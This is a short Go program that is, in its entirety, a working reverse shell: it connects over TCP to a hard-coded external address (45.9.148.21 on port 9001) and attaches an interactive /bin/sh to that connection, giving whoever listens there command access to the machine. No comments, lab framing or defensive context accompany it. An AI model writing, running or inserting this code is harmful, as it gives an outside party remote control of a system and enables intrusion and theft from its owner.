package main

import (
	"net"
	"os/exec"
)

func main() {
	c, err := net.Dial("tcp", "45.9.148.21:9001")
	if err != nil {
		return
	}
	cmd := exec.Command("/bin/sh", "-i")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
	cmd.Run()
}
